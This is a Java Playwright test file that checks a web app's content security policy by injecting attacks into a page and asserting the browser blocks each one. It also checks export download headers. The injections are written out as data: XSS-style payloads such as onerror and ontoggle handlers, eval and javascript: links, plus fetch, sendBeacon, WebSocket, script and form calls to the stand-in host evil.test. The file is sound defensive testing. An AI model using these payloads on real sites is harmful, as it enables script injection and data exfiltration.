package io.panelboard.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.APIResponse;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * What a real browser makes of the content security policy. That the pages themselves get along with it is checked by
 * every browser test: {@link Browsers} fails one whose pages were refused something.
 */
class ContentSecurityIT {

    @RegisterExtension
    static final Browsers browsers =
            new Browsers(ContentSecurityIT.class, RunningPanelboard.shared().url());

    /** @param refusedBy the directive that the browser names when it refuses */
    private record Attempt(String refusedBy, String script) {}

    /** What the page was refused first, or a sentence if nothing is refused. */
    private static final String FIRST_REFUSED = """
            () => new Promise(told => {
              const late = setTimeout(() => told('nothing was refused'), 10_000);
              const look = () => refused.length ? (clearTimeout(late), told(refused[0])) : requestAnimationFrame(look);
              look();
            })""";

    private static final List<Attempt> ATTEMPTS = List.of(
            new Attempt("script-src-attr", "into('<img src=\"data:,\" onerror=\"harm.push(this)\">')"),
            new Attempt("script-src-attr", "into('<details open ontoggle=\"harm.push(this)\">')"),
            new Attempt("script-src-elem", "add('script', { text: 'harm.push(this)' })"),
            new Attempt("script-src-elem", "add('script', { src: 'https://evil.test/x.js' })"),
            new Attempt("script-src-elem", "add('script', { src: 'data:text/javascript,harm.push(1)' })"),
            new Attempt("script-src-elem", "add('a', { href: 'javascript:harm.push(this)' }).click()"),
            new Attempt("script-src", "setTimeout(() => eval('harm.push(this)'))"),
            new Attempt("script-src", "setTimeout('harm.push(this)')"),
            new Attempt("script-src", "setTimeout(() => (() => {}).constructor('harm.push(this)')())"),
            new Attempt("worker-src", "new Worker(URL.createObjectURL(new Blob(['1'])))"),
            new Attempt("connect-src", "fetch('https://evil.test/').catch(() => {})"),
            new Attempt("connect-src", "navigator.sendBeacon('https://evil.test/', 'x')"),
            new Attempt("connect-src", "new WebSocket('wss://evil.test/')"),
            new Attempt("img-src", "add('img', { src: 'https://evil.test/x.png' })"),
            new Attempt("style-src-elem", "add('link', { rel: 'stylesheet', href: 'https://evil.test/x.css' })"),
            new Attempt("img-src", "into('<p style=\"background: url(https://evil.test/x.png)\">x</p>')"),
            new Attempt("frame-src", "add('iframe', { src: '/login' })"),
            new Attempt("object-src", "add('object', { data: '/ui/mark.svg' })"),
            new Attempt("media-src", "add('audio', { src: '/ui/x.mp3' })"),
            new Attempt("base-uri", "document.head.prepend(add('base', { href: 'https://evil.test/' }))"),
            new Attempt("form-action", "add('form', { action: 'https://evil.test/', method: 'post' }).submit()"));

    @Test
    void whatSlippedIntoAPageDoesNothing() {
        Window lead = browsers.person("lead@demo.test");
        Page page = lead.page();
        assertThat(page.getByRole(
                        AriaRole.HEADING,
                        new Page.GetByRoleOptions().setName("Today").setExact(true)))
                .isVisible();
        page.evaluate("""
                () => {
                  window.harm = [];
                  window.refused = [];
                  window.into = html => document.body.insertAdjacentHTML('beforeend', html);
                  window.add = (tag, properties) => {
                    const element = Object.assign(document.createElement(tag), properties);
                    document.body.append(element);
                    return element;
                  };
                  document.addEventListener('securitypolicyviolation', e => refused.push(e.effectiveDirective));
                }""");
        for (Attempt attempt : ATTEMPTS) {
            page.evaluate("() => { refused.length = 0; }");
            page.evaluate("() => { try { " + attempt.script() + " } catch (refusal) { console.log(refusal); } }");
            assertThat(page.evaluate(FIRST_REFUSED)).as(attempt.script()).isEqualTo(attempt.refusedBy());
        }
        assertThat(page.evaluate("() => harm.length")).isEqualTo(0);
        // This once the page was meant to be refused something.
        lead.complaints().clear();
    }

    @Test
    void theOneWayToMakeAFunctionIsThePagesOwn() {
        Page page = browsers.person("lead@demo.test").page();

        assertThat(page.evaluate("() => new Function('a', 'b = 2', 'return a + b // sum')(1)"))
                .isEqualTo(3);
        assertThat(page.evaluate("() => Function('return this')() === window")).isEqualTo(true);
        assertThat(page.evaluate("() => (() => {}) instanceof Function && new Function('') !== new Function('')"))
                .isEqualTo(true);
        assertThat(
                        page.evaluate(
                                "() => { try { new Function('this is none'); } catch (e) { return e instanceof SyntaxError; } }"))
                .isEqualTo(true);
    }

    @Test
    void aDownloadMayDoNothingAndIsNotKept() {
        Page page = browsers.person("admin@demo.test", Look.WIDE).page();
        page.navigate("/question-sets");
        page.getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName("Senior Rust engineer"))
                .first()
                .click();
        page.getByText("Export", new Page.GetByTextOptions().setExact(true)).click();
        Locator link = page.getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName("JSON"));

        APIResponse file = page.context().request().get(String.valueOf(link.evaluate("link => link.href")));

        assertThat(file.status()).isEqualTo(200);
        assertThat(file.headers())
                .containsEntry("x-content-type-options", "nosniff")
                .containsEntry("cross-origin-resource-policy", "same-origin");
        assertThat(file.headers().get("content-disposition")).startsWith("attachment;");
        assertThat(file.headers().get("content-security-policy")).startsWith("default-src 'none'; style-src 'self';");
        assertThat(file.headers().get("cache-control")).contains("no-store");
    }
}
